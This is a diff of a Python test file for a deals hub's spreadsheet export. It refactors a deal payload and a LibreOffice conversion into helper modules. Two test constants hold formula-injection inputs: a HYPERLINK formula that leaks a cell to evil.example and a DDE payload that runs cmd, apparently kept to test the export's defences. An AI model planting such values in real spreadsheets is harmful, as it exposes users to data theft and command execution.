@@ -9,8 +9,6 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
-import shutil
-import subprocess
 import zipfile
 from pathlib import Path
 
@@ -20,6 +18,8 @@ import pytest
 from hub.deals import export
 from hub.service import Hub
 from kiosk.service import Kiosk
+from tests.support import office
+from tests.support.deals import deal_payload
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
 EVIL_GIVES = "+1+cmd|' /C calc'!A0"
@@ -241,15 +241,7 @@ def test_status_marks_late_double_and_walk_in_deals(tmp_path):
         b = hub.register_participant({"name": "Bydel Sagene", "sector": "public"})
         open_hour(hub)
         pull(kiosk, hub)
-        deal = {
-            "parties": [
-                {"participant_id": a, "gives": "Lokale"},
-                {"participant_id": b, "gives": "Kurs"},
-            ],
-            "category": "premises",
-            "kind": "mutual",
-            "deadline": "2027-03-01",
-        }
+        deal = deal_payload(a, b)
         # The same handshake written down by two brokers: a suspected double.
         twice = [kiosk.register_deal({**deal, "broker": who}) for who in ("Kari", "Per")]
         walk_in = kiosk.register_deal(
@@ -276,37 +268,15 @@ def test_status_marks_late_double_and_walk_in_deals(tmp_path):
         hub.close()
 
 
-SOFFICE = shutil.which("soffice")
-
-
 @pytest.mark.slow
-@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
+@pytest.mark.skipif(office.SOFFICE is None, reason="LibreOffice (soffice) is not installed")
 def test_libreoffice_reads_dates_as_dates_and_both_sheets(evening, tmp_path):
     hub, deals = evening
     workbook = tmp_path / "avtaler.xlsx"
     workbook.write_bytes(
         export.to_xlsx(export.deal_rows(hub), "Sagene", participants=export.participant_rows(hub))
     )
-    out = tmp_path / "converted"
-    done = subprocess.run(
-        [
-            SOFFICE,
-            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
-            "--headless",
-            "--norestore",
-            "--convert-to",
-            # comma, quotes, UTF-8, from line 1, ..., every sheet to a file of its own (-1)
-            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1",
-            "--outdir",
-            str(out),
-            str(workbook),
-        ],
-        capture_output=True,
-        text=True,
-        timeout=180,
-    )
-    assert done.returncode == 0, done.stdout + done.stderr
-    sheets = {p.name: p for p in out.glob("*.csv")}
+    sheets = office.to_csv(workbook, tmp_path / "converted", every_sheet=True)
     assert set(sheets) == {"avtaler-Avtaler.csv", "avtaler-Deltakere.csv"}, sheets
     rows = list(csv.DictReader(io.StringIO(sheets["avtaler-Avtaler.csv"].read_text("utf-8"))))
     first = next(r for r in rows if r["Nr."] == deals["first"].number)
